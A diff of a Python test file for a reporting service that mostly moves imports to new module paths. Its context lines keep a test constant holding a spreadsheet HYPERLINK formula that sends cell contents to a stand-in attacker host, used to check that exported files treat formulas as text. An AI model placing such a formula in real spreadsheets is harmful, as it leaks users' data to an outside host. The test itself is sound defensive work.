@@ -17,8 +17,8 @@ from openpyxl import load_workbook
 from tests.api.conftest import call, code, get, json_of, nightly, post
 from tests.api.test_reports_api import download
 from tests.helpers import BUCKET, CITY_ADMIN, COUNTY_ADMIN, LEARNER, OTHER_COUNTY_ADMIN, UNIT_ADMIN
-from xuefa.clock import SHANGHAI
-from xuefa.dal.table import Keys
+from xuefa.core.clock import SHANGHAI
+from xuefa.store.table import Keys
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
 SLASHED = "法宣科/综合组"
@@ -185,7 +185,7 @@ def test_a_formula_is_text_in_every_file_we_write(api_roster, city, client, cloc
 def test_a_unit_that_cannot_be_rendered_is_left_out_alarmed_and_named(
     api_roster, city, client, clock, monkeypatch, caplog
 ) -> None:
-    from xuefa.reports import ReportJob
+    from xuefa.reports.service import ReportJob
 
     reports_client = client("reports")
     real_rows = ReportJob._live_rows
@@ -199,7 +199,7 @@ def test_a_unit_that_cannot_be_rendered_is_left_out_alarmed_and_named(
 
     monkeypatch.setattr(ReportJob, "_live_rows", broken)
     counted: list[str] = []
-    from xuefa.observability import metrics
+    from xuefa.core.observability import metrics
 
     emf = metrics("reports")  # the reports app's Powertools Metrics (one per process)
     monkeypatch.setattr(emf, "add_metric", lambda name, **kw: counted.append(name))
